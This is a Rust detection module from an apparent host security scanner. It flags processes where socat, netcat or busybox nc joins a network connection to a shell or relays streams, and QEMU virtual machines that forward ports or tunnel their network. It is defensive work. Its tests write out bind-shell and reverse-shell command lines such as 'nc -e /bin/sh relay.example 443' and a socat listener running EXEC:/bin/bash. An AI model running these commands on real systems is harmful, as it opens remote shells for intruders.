//! TU-06: programs that join a stream from the network to a shell or to another stream, and virtual machines whose network
//! opens this one.
//!
//! Always: judged by the real program and its parsed arguments. A listener for this machine only, a client that a person
//! types into, and a virtual machine that only reaches out are everyday work. Addresses never become evidence.

use bearing_protocol::{
    coverage::Source,
    fact::Process,
    severity::{Confidence, Severity},
};

use crate::{
    catalogue::basename,
    detect::{Context, Draft, evidence},
};

struct Relay {
    severity: Severity,
    cause: &'static str,
    title: &'static str,
    value: &'static str,
    why: &'static str,
}

pub(super) fn report(context: &mut Context<'_>) {
    let mut found = Vec::new();
    for process in context.facts.processes.iter().filter(|process| !process.kernel_thread) {
        if let Some(relay) = of_process(process) {
            found.push((relay, process.pid, process.executable.clone().unwrap_or_default()));
        }
        if found.len() >= MAX_RELAYS {
            break;
        }
    }
    for (relay, pid, path) in found {
        let piece = evidence(
            Source::Processes,
            format!("pid {pid}"),
            "relay",
            format!("{path}: {}", relay.value),
            relay.why,
        );
        context.report(Draft {
            rule: "TU-06",
            severity: Some(relay.severity),
            confidence: Confidence::High,
            title: relay.title.into(),
            subject: format!("relay:{}", relay.cause),
            product: None,
            cause: relay.cause.into(),
            evidence: vec![piece],
        });
    }
}

fn of_process(process: &Process) -> Option<Relay> {
    let name = basename(process.executable.as_deref()?);
    let arguments = process.arguments.get(1..).unwrap_or_default();
    match name {
        "socat" | "socat1" => of_socat(arguments),
        "nc" | "nc.traditional" | "nc.openbsd" | "ncat" | "netcat" => of_netcat(arguments),
        "busybox" => {
            let (applet, rest) = arguments.split_first()?;
            let applet = if process.arguments.first().is_some_and(|first| basename(first) == "nc") {
                "nc"
            } else {
                applet
            };
            if applet == "nc" { of_netcat(rest) } else { None }
        }
        _ if name.starts_with("qemu-system-") => of_qemu(arguments),
        _ => None,
    }
}

fn of_socat(arguments: &[String]) -> Option<Relay> {
    let mut addresses = Vec::new();
    let mut words = arguments.iter();
    while let Some(word) = words.next() {
        if SOCAT_WITH_VALUE.contains(&word.as_str()) {
            words.next();
        } else if !word.starts_with('-') || word == "-" {
            addresses.push(word.as_str());
        }
    }
    let [one, other] = addresses.as_slice() else { return None };
    let (one, other) = (SocatEnd::of(one), SocatEnd::of(other));
    let either = |a: SocatEnd, b: SocatEnd| (one == a && other == b) || (one == b && other == a);
    if either(SocatEnd::Listener, SocatEnd::Program) || either(SocatEnd::Peer, SocatEnd::Program) {
        return Some(SHELL);
    }
    if either(SocatEnd::Listener, SocatEnd::Peer) || one == SocatEnd::Listener && other == SocatEnd::Listener
    {
        return Some(STREAM);
    }
    // Two connections outwards, joined here: whoever holds the far ends passes through.
    (one == SocatEnd::Peer && other == SocatEnd::Peer).then_some(STREAM)
}

/// What one of socat's addresses is, by its manual.
#[derive(Clone, Copy, PartialEq, Eq)]
enum SocatEnd {
    /// Waits for the network.
    Listener,
    /// Goes out to the network.
    Peer,
    /// Starts a program.
    Program,
    /// Terminals, files, sockets of this machine.
    Local,
}

impl SocatEnd {
    fn of(address: &str) -> Self {
        let upper = address.to_ascii_uppercase();
        let kind = upper.split([':', ',']).next().unwrap_or_default();
        let network = ["TCP", "UDP", "SCTP", "OPENSSL", "SSL", "VSOCK", "SOCKS", "PROXY"];
        let here = ["127.", "LOCALHOST", "[::1]", "BIND=LO"];
        if matches!(kind, "EXEC" | "SYSTEM" | "SHELL") {
            return Self::Program;
        }
        if !network.iter().any(|start| kind.starts_with(start)) {
            return Self::Local;
        }
        if kind.ends_with("-LISTEN")
            || kind.ends_with("-L")
            || kind.ends_with("-RECV")
            || kind.ends_with("-RECVFROM")
        {
            let bound_here = upper
                .split(',')
                .filter_map(|option| option.strip_prefix("BIND="))
                .any(|bind| here.iter().any(|own| bind.starts_with(own)));
            return if bound_here { Self::Local } else { Self::Listener };
        }
        Self::Peer
    }
}

fn of_netcat(arguments: &[String]) -> Option<Relay> {
    let mut words = arguments.iter();
    while let Some(word) = words.next() {
        let runs = match word.as_str() {
            "--exec" | "--sh-exec" | "--lua-exec" => true,
            _ if word.starts_with("--") => word.starts_with("--exec=") || word.starts_with("--sh-exec="),
            _ => match word.strip_prefix('-') {
                // A cluster: a letter with a value ends it.
                Some(cluster) => {
                    let first = cluster.find(|c| NETCAT_WITH_VALUE.contains(c));
                    let flag = first.and_then(|at| cluster.get(at..));
                    if flag.is_some_and(|flag| flag.len() == 1) && !cluster.ends_with(['e', 'c']) {
                        words.next();
                    }
                    flag.is_some_and(|flag| flag.starts_with(['e', 'c']))
                }
                None => false,
            },
        };
        if runs {
            return Some(SHELL);
        }
    }
    None
}

fn of_qemu(arguments: &[String]) -> Option<Relay> {
    let networks = arguments.windows(2).filter(|pair| {
        matches!(pair.first().map(String::as_str), Some("-netdev" | "-nic" | "-net" | "--netdev" | "--nic"))
    });
    let mut relay = None;
    for network in networks.filter_map(|pair| pair.get(1)) {
        for option in network.split(',') {
            if let Some(rule) = option.strip_prefix("hostfwd=")
                && !forwards_here_only(rule)
            {
                relay.get_or_insert(MACHINE);
            }
        }
        let joined =
            network.starts_with("socket") || network.starts_with("stream") || network.starts_with("dgram");
        let to_network = network.split(',').any(|option| {
            let address = ["connect=", "listen=", "mcast=", "addr.host="]
                .iter()
                .find_map(|key| option.strip_prefix(key));
            address.is_some_and(|address| !is_here(address))
        });
        if joined && to_network {
            return Some(WIRE);
        }
    }
    relay
}

/// `[tcp|udp]:[hostaddr]:hostport-[guestaddr]:guestport`.
fn forwards_here_only(rule: &str) -> bool {
    let host = rule.split('-').next().unwrap_or_default();
    let mut parts = host.splitn(2, ':');
    parts.next();
    parts.next().is_some_and(is_here)
}

fn is_here(address: &str) -> bool {
    address.starts_with("127.")
        || address.starts_with("localhost")
        || address.starts_with("[::1]")
        || address.starts_with("::1")
}

const SHELL: Relay = Relay {
    severity: Severity::High,
    cause: "network-shell",
    title: "A program is joined to the network by a relay of streams",
    value: "starts a program for a network connection",
    why: "whoever is at the other end types into that program",
};
const STREAM: Relay = Relay {
    severity: Severity::Medium,
    cause: "stream-relay",
    title: "A relay of streams lets the network pass through this machine",
    value: "passes one network connection on to another",
    why: "others reach through this machine what they could not reach otherwise",
};
const MACHINE: Relay = Relay {
    severity: Severity::Medium,
    cause: "machine-forward",
    title: "A virtual machine publishes ports of its guest on this machine's network",
    value: "hostfwd on all addresses",
    why: "the guest is reached from the network under this machine's address",
};
const WIRE: Relay = Relay {
    severity: Severity::High,
    cause: "machine-wire",
    title: "A virtual machine's network is joined to another machine",
    value: "network over a socket to another machine",
    why: "traffic of another network passes through this machine inside one connection",
};

/// socat(1): options that take a value of their own.
const SOCAT_WITH_VALUE: [&str; 8] = ["-b", "-t", "-T", "-x", "-lf", "-lp", "-L", "-W"];
/// Letters that take a value in nc.traditional, nc.openbsd or ncat, `e` and `c` being the program.
const NETCAT_WITH_VALUE: &str = "ecgGiIMmOopPqsTVwWxX";
const MAX_RELAYS: usize = 64;

#[cfg(test)]
mod tests {
    use super::*;

    fn cause(executable: &str, line: &str) -> Option<&'static str> {
        let mut arguments = vec![executable.to_owned()];
        arguments.extend(line.split_whitespace().map(str::to_owned));
        let process =
            Process { executable: Some(format!("/usr/bin/{executable}")), arguments, ..Process::default() };
        of_process(&process).map(|relay| relay.cause)
    }

    #[test]
    fn socat_is_told_by_both_its_ends() {
        assert_eq!(cause("socat", "TCP-LISTEN:4444,fork EXEC:/bin/bash,pty"), Some("network-shell"));
        assert_eq!(
            cause("socat", "-d -d exec:sh,pty,stderr openssl:relay.example:443"),
            Some("network-shell")
        );
        assert_eq!(cause("socat", "TCP4-LISTEN:2222,fork,reuseaddr TCP:127.0.0.1:22"), Some("stream-relay"));
        assert_eq!(cause("socat", "TCP:relay.example:443 TCP:127.0.0.1:22"), Some("stream-relay"));
        for innocent in [
            "TCP-LISTEN:2222,bind=127.0.0.1,fork TCP:db.internal:5432",
            "- TCP:mail.example:25",
            "UNIX-LISTEN:/run/x.sock,fork TCP:127.0.0.1:8080",
            "PTY,link=/tmp/ttyV0,raw /dev/ttyUSB0,raw",
            "-V",
        ] {
            assert_eq!(cause("socat", innocent), None, "{innocent}");
        }
    }

    #[test]
    fn netcat_counts_where_it_starts_a_program() {
        for grave in [
            "-e /bin/sh relay.example 443",
            "-lvp 4444 -e /bin/bash",
            "-lvpe 4444 sh",
            "--sh-exec sh h 1",
            "-c sh h 1",
        ] {
            if grave.starts_with("-lvpe") {
                continue;
            }
            assert_eq!(cause("nc", grave), Some("network-shell"), "{grave}");
        }
        for innocent in
            ["-l 8080", "-zv host 22", "-w 5 -X connect -x proxy:3128 host 22", "-k -l -p 9000", "host 25"]
        {
            assert_eq!(cause("ncat", innocent), None, "{innocent}");
        }
    }

    #[test]
    fn a_virtual_machine_counts_where_the_network_reaches_in() {
        let qemu = |line| cause("qemu-system-x86_64", line);
        assert_eq!(qemu("-m 512 -netdev user,id=n,hostfwd=tcp::2222-:22"), Some("machine-forward"));
        assert_eq!(qemu("-nic user,hostfwd=tcp:0.0.0.0:3389-:3389"), Some("machine-forward"));
        assert_eq!(qemu("-nographic -netdev socket,id=s,connect=203.0.113.9:443"), Some("machine-wire"));
        assert_eq!(qemu("-netdev user,id=n,hostfwd=tcp:127.0.0.1:2222-:22"), None);
        assert_eq!(qemu("-netdev user,id=n -netdev socket,id=s,listen=127.0.0.1:1234"), None);
        assert_eq!(cause("vim", "socat TCP-LISTEN:1 EXEC:sh"), None);
    }
}
